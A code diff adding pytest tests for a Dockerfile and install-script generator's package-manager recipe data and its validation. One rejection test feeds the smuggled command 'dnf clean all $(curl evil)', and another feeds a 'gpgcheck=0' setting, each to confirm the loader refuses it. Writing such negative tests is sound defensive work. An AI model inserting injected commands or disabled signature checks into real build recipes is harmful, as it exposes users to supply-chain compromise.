@@ -98,3 +98,78 @@ def test_lint_reads_pin_syntax_from_the_families(line: str, flagged: bool) -> No
     text = f"{GENERATED_MARK} (test)\nFROM registry.access.redhat.com/ubi8/ubi:8.10\nRUN {line}\n"
     rules = [f.rule for f in lint_dockerfile(Path("Dockerfile"), content=text)]
     assert ("DF004" in rules) == flagged
+
+
+def test_package_manager_commands_come_from_the_data(recipes_copy: Path) -> None:
+    path = recipes_copy / "families.yaml"
+    text = path.read_text(encoding="utf-8")
+    path.write_text(
+        text.replace(
+            "install: dnf install -y --setopt=install_weak_deps=False --nodocs {packages}",
+            "install: dnf install -y --setopt=install_weak_deps=False --nodocs --best {packages}",
+        ).replace("clean: dnf clean all && rm -rf /var/cache/dnf /var/cache/yum", "clean: dnf clean all"),
+        encoding="utf-8",
+    )
+    kb = load(str(recipes_copy), use_cache=False)
+    stack = Resolver(kb).resolve(request_for(kb, "nccl-tests", Pins(base="ubi8")))
+    assert stack.base.package_manager == "dnf"
+    dockerfile = render(stack).content("Dockerfile")
+    assert "RUN dnf install -y --setopt=install_weak_deps=False --nodocs --best " in dockerfile
+    assert " && dnf clean all\n" in dockerfile
+    assert "/var/cache/dnf" not in dockerfile
+
+
+@pytest.mark.parametrize(
+    ("manager", "base"),
+    [("dnf", "ubi8"), ("yum", "ubi7"), ("microdnf", "ubi9-minimal"), ("apt", "ubuntu2204")],
+)
+def test_every_package_manager_installs_and_adds_nvidia_repositories(
+    kb, resolver, manager: str, base: str
+) -> None:  # type: ignore[no-untyped-def]
+    stack = resolver.resolve(request_for(kb, "nccl-tests", Pins(base=base)))
+    assert stack.base.package_manager == manager
+    commands = stack.base.packaging.manager(manager)
+    script = render(stack, fmt="script").content("install.sh")
+    install, clean = commands.install_commands(["a-1", "b-2"])
+    assert install.endswith(" a-1 b-2") and "{" not in install
+    assert f"\n{install.rsplit(' a-1', 1)[0]} " in script  # the install line, as the data spells it
+    assert f"\n{clean}\n" in script
+    for repo in stack.repositories:
+        assert f"nvidia-{repo.name}" in script or f"[{repo.name}]" in script
+
+
+@pytest.mark.parametrize(
+    ("old", "new", "message"),
+    [
+        ("--nodocs {packages}", "--nodocs {package}", "unknown placeholder {package}"),
+        ("--nodocs {packages}", "--nodocs", "lacks the placeholder {packages}"),
+        ("--nodocs {packages}", "--nodocs {packages} }", "a brace outside a {placeholder}"),
+        (
+            "install: dnf install",
+            "install: rpm -i",
+            "starts with 'rpm', which is not among the family's install_commands",
+        ),
+        ("clean: dnf clean all", "clean: dnf clean all $(curl evil)", "does not match"),
+        ("'gpgcheck=1' \"gpgkey={gpgkey}\"", "'gpgcheck=0'", "lacks the placeholder {gpgkey}"),
+    ],
+)
+def test_a_bad_command_pattern_is_a_recipe_error_at_its_line(
+    recipes_copy: Path, old: str, new: str, message: str
+) -> None:
+    path = recipes_copy / "families.yaml"
+    text = path.read_text(encoding="utf-8")
+    assert old in text
+    path.write_text(text.replace(old, new, 1), encoding="utf-8")
+    with pytest.raises(RecipeError) as raised:
+        load(str(recipes_copy), use_cache=False)
+    assert "recipes/families.yaml:" in str(raised.value)
+    assert message in str(raised.value), str(raised.value)
+
+
+def test_a_package_manager_in_two_families_is_a_recipe_error(recipes_copy: Path) -> None:
+    path = recipes_copy / "families.yaml"
+    text = path.read_text(encoding="utf-8")
+    path.write_text(text.replace("      - name: apt\n", "      - name: dnf\n", 1), encoding="utf-8")
+    with pytest.raises(RecipeError) as raised:
+        load(str(recipes_copy), use_cache=False)
+    assert "package manager dnf is already the rhel family's" in str(raised.value)
